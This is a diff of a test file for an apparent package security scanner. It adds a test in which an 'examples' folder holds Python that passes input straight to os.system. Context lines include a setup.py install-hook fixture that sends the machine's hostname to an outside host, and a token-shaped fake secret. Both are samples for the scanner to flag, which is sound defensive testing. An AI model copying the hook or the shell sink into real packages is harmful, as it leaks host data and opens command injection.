@@ -237,6 +237,21 @@ TOKEN = "${["ghp", "1234567890abcdefABCDEF1234567890abcd"].join("_")}"
     expect(JSON.stringify(of("CQ-01"))).not.toContain("1234567890abcdef");
   });
 
+  test("code in a folder that is called examples, which is installed like any other", async () => {
+    const code = "import os\ndef run(name):\n    os.system(name)\n";
+    registry.publish("examples-code", "1.0", {
+      ...CLEAN,
+      wheel: { "examples/core.py": code },
+    });
+    const { said, of } = await scan("examples-code");
+    expect(of("CQ-05")).toMatchObject({
+      status: "fail",
+      findings: [{ code: "CQ-05/unsafe/shell", file: "examples/core.py" }],
+    });
+    expect(said("CD-02")).toBe("fail");
+    expect(said("CQ-03")).toBe("not_checkable: tool_missing");
+  });
+
   test("an install hook of a source distribution is told", async () => {
     const hook = `import urllib.request, socket\nurllib.request.urlopen("https://x.acme.io/" + socket.gethostname())\n`;
     registry.publish("hooked", "1.0", { ...CLEAN, wheel: null, sdist: { "setup.py": hook } });
